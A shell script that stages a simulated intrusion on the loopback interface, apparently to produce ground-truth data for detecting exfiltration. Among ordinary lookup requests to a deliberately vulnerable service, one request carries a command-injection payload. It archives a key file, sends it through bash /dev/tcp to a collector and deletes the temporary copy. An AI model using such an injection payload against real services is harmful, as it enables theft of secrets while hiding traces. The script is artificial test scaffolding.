#!/bin/sh
# run.sh DIRECTORY: the staged incident, everything on the loopback. A small web service looks names up in a list by handing
# them to a shell. Among ordinary requests and other work comes one that makes the shell pack the key file and send it
# away. Whoever receives it writes received.bin; that and the process numbers in truth.txt are the ground truth.
set -eu
here=$(dirname "$0")
cd "$1"
mkdir -p site
printf 'alpha 192.0.2.1\nbeta 192.0.2.2\ngamma 192.0.2.3\n' > site/names.txt
printf 'key: 7f3c91d2a8e64b05\nowner: billing\n' > site/service.key
/usr/bin/python3 "$here/collector.py" 9099 received.bin &
collector=$!
/usr/bin/python3 "$here/service.py" 8080 site/names.txt &
service=$!
/usr/bin/python3 "$here/client.py" 8080 alpha
sort -r site/names.txt > sorted.txt
/usr/bin/python3 "$here/client.py" 8080 gamma
/usr/bin/python3 "$here/client.py" 8080 'x; tar -czf /tmp/.cache-$$.tgz -C site service.key; bash -c "cat /tmp/.cache-$$.tgz > /dev/tcp/127.0.0.1/9099"; rm /tmp/.cache-$$.tgz #'
wc -l sorted.txt
/usr/bin/python3 "$here/client.py" 8080 beta
wait "$collector"
kill "$service"
printf 'service %s\ncollector %s\n' "$service" "$collector" > truth.txt
